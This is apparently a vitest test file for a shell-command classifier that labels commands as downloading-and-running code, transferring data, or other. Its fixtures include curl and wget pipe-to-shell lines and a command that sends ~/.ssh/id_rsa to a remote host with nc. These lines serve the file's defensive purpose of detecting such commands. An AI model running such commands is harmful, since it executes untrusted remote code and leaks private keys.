import { expect, it } from 'vitest';
import { commandKind, shellText } from '../../src/core/programs.js';

it.each([
  ['curl http://203.0.113.5/a | sh', 'downloads-and-runs'],
  ['id > /tmp/x; curl -s http://203.0.113.5/a | sudo bash -s', 'downloads-and-runs'],
  ['wget -q http://203.0.113.5/b -O /tmp/b && chmod +x /tmp/b && /tmp/b', 'downloads-and-runs'],
  ['bash -c "$(curl -fsSL http://203.0.113.5/a)"', 'downloads-and-runs'],
  ['eval `wget -qO- http://203.0.113.5/a`', 'downloads-and-runs'],
  ['A=1 /usr/bin/curl http://203.0.113.5/a | python3 -', 'downloads-and-runs'],
  ['wget http://203.0.113.5/b', 'transfers'],
  ['cat ~/.ssh/id_rsa | nc 203.0.113.5 80', 'transfers'],
  ['echo curly | sort', 'other'],
  ['id', 'other'],
  ['', 'other'],
])('a command such as %j is of the kind %s', (command, kind) => {
  expect(commandKind(command)).toBe(kind);
});

it('finds the text that a shell runs', () => {
  expect(shellText(['sh', '-c', '--', 'id'])).toBe('id');
  expect(shellText(['/bin/bash', '-lc', 'id'])).toBe('id');
  expect(shellText(['sh', '/tmp/x'])).toBeUndefined();
  expect(shellText(['python3', '-c', 'print(1)'])).toBeUndefined();
});
